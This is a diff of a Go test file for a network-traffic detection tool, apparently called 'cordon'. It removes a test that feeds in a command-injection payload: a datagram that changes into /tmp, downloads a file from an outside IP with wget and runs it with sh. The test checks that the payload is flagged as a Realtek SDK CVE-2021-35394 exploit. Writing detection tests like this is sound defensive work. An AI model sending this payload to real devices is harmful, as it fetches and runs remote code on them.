@@ -165,15 +165,6 @@ func TestDHT(t *testing.T) {
 	r.isEmpty()
 }
 
-func TestDatagramExploit(t *testing.T) {
-	r := newRig(t, Config{})
-	c := r.datagrams(&cordon.Device{})
-	c.next(opener, []byte("orf;cd /tmp; wget http://203.0.113.5/x; sh x"))
-	if diff := cmp.Diff([]string{"exploit realtek-sdk-cve-2021-35394", "exploit command-injection"}, r.facts); diff != "" {
-		t.Errorf("facts (-want +got):\n%s", diff)
-	}
-}
-
 func TestBeginRefuses(t *testing.T) {
 	r := newRig(t, Config{})
 	for _, f := range []cordon.Flow{{Proto: 1}, {Proto: 47}, {Proto: 17, PeerPort: 53, Direction: cordon.Outbound}} {
